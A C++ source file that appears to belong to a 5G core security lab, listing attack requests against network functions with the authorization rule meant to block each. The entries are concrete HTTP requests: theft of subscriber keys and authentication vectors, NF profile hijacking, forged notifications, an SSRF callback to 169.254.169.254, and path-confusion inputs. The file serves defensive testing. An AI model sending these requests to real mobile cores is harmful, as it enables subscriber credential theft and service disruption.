#include "lab/attacks.h"

#include <array>

namespace cordon::lab {

namespace {

// Instances of the lab, as in the recording.
#define LAB_AMF "f990ed9a-e555-41f1-9dea-7f66d0edecbf"
#define LAB_SMF "f99d8d52-e555-41f1-96e6-f1f25862e2ba"
#define LAB_UDM "f999ee0e-e555-41f1-aeaf-196e09b4add1"
#define LAB_SUPI "imsi-999700000021309"
#define LAB_SUCI "suci-0-999-70-0-0-0-0000021309"
#define NEW_INSTANCE "7b1a3c5e-9d2f-4e68-8a4b-0c1d2e3f4a5b"

constexpr std::string_view kJson = "application/json";
constexpr std::string_view kPatch = "application/json-patch+json";

#define AMF_PROFILE(ID)                                                                                          \
  R"({"nfInstanceId":")" ID R"(","nfType":"AMF","nfStatus":"REGISTERED","plmnList":[{"mcc":"999","mnc":"70"}],)" \
  R"("ipv4Addresses":["127.0.0.18"],"amfInfo":{"amfSetId":"001","amfRegionId":"02",)"                            \
  R"("guamiList":[{"plmnId":{"mcc":"999","mnc":"70"},"amfId":"020041"}]}})"

// In the order they are run: a registration before the deregistration of the same profile.
constexpr auto kAttacks = std::to_array<Attack>({
    // --- 5GAD-2022 in today's form (real-core note, section 3) ---
    {"AMFLookingForUDM", "5GAD-2022", "BSF", "NRF", "GET",
     "/nnrf-disc/v1/nf-instances?target-nf-type=UDM&requester-nf-type=AMF", "", "", true, "discover-partners-only"},
    {"GetAllNFs", "5GAD-2022, THR-004", "ROGUE", "NRF", "GET", "/nnrf-nfm/v1/nf-instances", "", "", true,
     "identity-unknown-instance"},
    {"GetUserData", "5GAD-2022, THR-016", "BSF", "UDM", "GET", "/nudm-sdm/v2/" LAB_SUPI "/am-data", "", "", true,
     "access-data-only-amf"},
    {"randomDataDump", "5GAD-2022", "BSF", "NRF", "GET",
     "/nnrf-disc/v1/nf-instances?requester-nf-type=QXZJ&target-nf-type=UDM", "", "", false, "enumerations.closed"},
    {"FakeAMFInsert (id is no UUID)", "5GAD-2022", "BSF", "NRF", "PUT",
     "/nnrf-nfm/v1/nf-instances/b01dface-bead-cafe-bade-cabledfabled",
     AMF_PROFILE("b01dface-bead-cafe-bade-cabledfabled"), kJson, true, "malformed-path"},
    {"randomAMFInsert", "5GAD-2022, THR-001", "BSF", "NRF", "PUT", "/nnrf-nfm/v1/nf-instances/" NEW_INSTANCE,
     AMF_PROFILE(NEW_INSTANCE), kJson, true, "profile-body-names-its-owner"},
    {"FakeAMFDelete", "5GAD-2022", "BSF", "NRF", "DELETE", "/nnrf-nfm/v1/nf-instances/" NEW_INSTANCE, "", "", true,
     "own-profile-only"},
    {"CrashNRF", "5GAD-2022", "BSF", "NRF", "GET",
     "/nnrf-disc/v1/nf-instances?requester-nf-type=&target-nf-type=", "", "", false, "enumerations.closed"},
    // --- what else succeeds against a bare core today (same note) ---
    {"key theft: K and OPc", "real-core note", "BSF", "UDR", "GET",
     "/nudr-dr/v1/subscription-data/" LAB_SUPI "/authentication-data/authentication-subscription", "", "", true,
     "udr-authentication-data-only-udm"},
    {"authentication vector theft", "real-core note, THR-017", "BSF", "UDM", "POST",
     "/nudm-ueau/v1/" LAB_SUCI "/security-information/generate-auth-data",
     R"({"servingNetworkName":"5G:mnc070.mcc999.3gppnetwork.org","ausfInstanceId":"f9953e2c-e555-41f1-bd8b-2941ce299b45"})",
     kJson, true, "authentication-vectors-only-ausf"},
    {"BSF certificate registers an AMF", "real-core note, THR-001", "BSF", "NRF", "PUT",
     "/nnrf-nfm/v1/nf-instances/" NEW_INSTANCE, AMF_PROFILE(NEW_INSTANCE), kJson, true,
     "profile-body-names-its-owner"},
    {"impostor takes over the AMF's profile", "THR-001", "BSF", "NRF", "PUT", "/nnrf-nfm/v1/nf-instances/" LAB_AMF,
     AMF_PROFILE(LAB_AMF), kJson, true, "profile-body-names-its-owner"},
    {"AMF's profile patched by another NF", "THR-003", "BSF", "NRF", "PATCH", "/nnrf-nfm/v1/nf-instances/" LAB_AMF,
     R"([{"op":"replace","path":"/nfStatus","value":"SUSPENDED"}])", kPatch, true, "own-profile-only"},
    {"own profile patched to attract traffic", "THR-003", "BSF", "NRF", "PATCH", "/nnrf-nfm/v1/nf-instances/@BSF",
     R"([{"op":"replace","path":"/ipv4Addresses","value":["127.0.0.18"]}])", kPatch, true,
     "profile-patch-changes-status-only"},
    {"another NF's name in a subscription", "THR-008", "BSF", "NRF", "POST", "/nnrf-nfm/v1/subscriptions",
     R"({"nfStatusNotificationUri":"http://127.0.1.15:7777/nnrf-nfm/v1/nf-status-notify","reqNfInstanceId":")" LAB_AMF
     R"(","reqNfType":"AMF","subscrCond":{"nfType":"UDM"}})",
     kJson, true, "subscribe-as-itself"},
    {"callback to a foreign host", "THR-025", "BSF", "NRF", "POST", "/nnrf-nfm/v1/subscriptions",
     R"({"nfStatusNotificationUri":"http://169.254.169.254/latest/meta-data","reqNfInstanceId":"@BSF","reqNfType":"BSF","subscrCond":{"nfType":"UDM"}})",
     kJson, true, "callback.uri"},
    {"forged status notification", "THR-002", "BSF", "AMF", "POST", "/nnrf-nfm/v1/nf-status-notify",
     R"({"event":"NF_DEREGISTERED","nfInstanceUri":"http://127.0.1.10:7777/nnrf-nfm/v1/nf-instances/)" LAB_UDM
     R"("})",
     kJson, true, "status-notification-only-nrf"},
    {"deregistration of a subscriber the AMF does not serve", "THR-020", "UDM", "AMF", "POST",
     "/namf-callback/v1/imsi-999700000099999/dereg-notify",
     R"({"deregReason":"SUBSCRIPTION_WITHDRAWN","accessType":"3GPP_ACCESS"})", kJson, true,
     "notification-not-subscribed"},
    {"policy ended for a session the SMF did not ask about", "THR-021", "PCF", "SMF", "POST",
     "/nsmf-callback/v1/sm-policy-notify/999/terminate",
     R"({"resourceUri":"http://127.0.1.13:7777/npcf-smpolicycontrol/v1/sm-policies/999","cause":"UNSPECIFIED"})",
     kJson, true, "notification-not-subscribed"},
    {"AMF registration for a subscriber by an SMF", "THR-015", "SMF", "UDM", "PUT",
     "/nudm-uecm/v1/" LAB_SUPI "/registrations/amf-3gpp-access",
     R"({"amfInstanceId":")" LAB_SMF
     R"(","deregCallbackUri":"http://127.0.1.4:7777/x","guami":{"plmnId":{"mcc":"999","mnc":"70"},"amfId":"020040"},"ratType":"NR"})",
     kJson, true, "amf-registration-only-amf"},
    {"AMF registration in another AMF's name", "THR-015", "AMF", "UDM", "PUT",
     "/nudm-uecm/v1/" LAB_SUPI "/registrations/amf-3gpp-access",
     R"({"amfInstanceId":")" NEW_INSTANCE
     R"(","deregCallbackUri":"http://127.0.1.5:7777/x","guami":{"plmnId":{"mcc":"999","mnc":"70"},"amfId":"020040"},"ratType":"NR"})",
     kJson, true, "amf-registers-itself"},
    {"forced purge by an SMF", "THR-020", "SMF", "UDM", "PATCH",
     "/nudm-uecm/v1/" LAB_SUPI "/registrations/amf-3gpp-access",
     R"({"guami":{"plmnId":{"mcc":"999","mnc":"70"},"amfId":"020040"},"purgeFlag":true})", kJson, true,
     "amf-registration-only-amf"},
    {"subscriber profile altered at the UDR", "THR-019", "PCF", "UDR", "PUT",
     "/nudr-dr/v1/subscription-data/" LAB_SUPI "/context-data/amf-3gpp-access",
     R"({"amfInstanceId":")" NEW_INSTANCE
     R"(","deregCallbackUri":"http://127.0.1.13:7777/x","guami":{"plmnId":{"mcc":"999","mnc":"70"},"amfId":"020040"},"ratType":"NR"})",
     kJson, true, "udr-subscription-data-only-udm"},
    {"mass retrieval: session data by an AUSF", "THR-016", "AUSF", "UDM", "GET", "/nudm-sdm/v2/" LAB_SUPI "/sm-data",
     "", "", true, "subscriber-data-only-consumers"},
    {"session released by a stranger", "THR-021", "PCF", "SMF", "POST", "/nsmf-pdusession/v1/sm-contexts/1/release",
     R"({"cause":"REL_DUE_TO_UNSPECIFIED_REASON"})", kJson, true, "sm-contexts-only-amf"},
    {"PCF binding forged", "THR-028", "SMF", "BSF", "POST", "/nbsf-management/v1/pcfBindings",
     R"({"supi":")" LAB_SUPI
     R"(","dnn":"internet","snssai":{"sst":1},"pcfIpEndPoints":[{"ipv4Address":"127.0.0.66","port":7777}]})",
     kJson, true, "bindings-only-pcf"},
    {"wrong role: N1 message by a BSF", "THR-014", "BSF", "AMF", "POST",
     "/namf-comm/v1/ue-contexts/" LAB_SUPI "/n1-n2-messages", R"({"pduSessionId":5})", kJson, true,
     "n1-n2-messages-only-known-senders"},
    // --- the bytes themselves ---
    {"path confusion: dot segments", "THR-040", "AMF", "UDM", "GET", "/nudm-sdm/v2/x/../" LAB_SUPI "/am-data", "", "",
     false, "malformed-path"},
    {"path confusion: encoded slash", "THR-040", "AMF", "UDM", "GET", "/nudm-sdm/v2/" LAB_SUPI "%2fam-data", "", "",
     false, "malformed-path"},
    {"identifier with an operator", "THR-049", "AMF", "UDM", "GET", "/nudm-sdm/v2/imsi-%24ne/am-data", "", "", false,
     "malformed-path"},
    {"unknown child resource", "THR-040", "AMF", "UDM", "GET", "/nudm-sdm/v2/" LAB_SUPI "/am-data/secret", "", "",
     false, "not-in-catalogue"},
    {"duplicate member, escaped differently", "THR-042", "AMF", "NRF", "POST", "/nnrf-nfm/v1/subscriptions",
     R"({"reqNfInstanceId":")" LAB_AMF
     R"(","reqNfType":"AMF","reqNf\u0054ype":"UDM","nfStatusNotificationUri":"http://127.0.1.5:7777/x"})",
     kJson, false, "malformed-body"},
    {"deep nesting", "THR-041", "AMF", "NRF", "POST", "/nnrf-nfm/v1/subscriptions",
     R"({"a":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]})", kJson, false,
     "malformed-body"},
});

constexpr auto kNotShown = std::to_array<NotShown>({
    {"automatedRedirectWithTimer", "5GAD-2022: PFCP on N4, not on the service-based interface"},
    {"automatedDropWithTimer", "5GAD-2022: PFCP on N4, not on the service-based interface"},
    {"THR-005 reading other NF profiles",
     "real cores read every profile when they start: it cannot be refused without breaking them"},
    {"THR-007..013 tokens", "the lab's core issues none: tested in tests/tokens_test.py"},
    {"THR-026..032 SCP, SEPP, roaming", "the lab has neither"},
    {"THR-036..039 HTTP/2 floods, smuggling", "connection level: tested in cordon/wire, not single requests"},
});

}  // namespace

std::span<const Attack> attacks() { return kAttacks; }
std::span<const NotShown> not_shown() { return kNotShown; }

}  // namespace cordon::lab
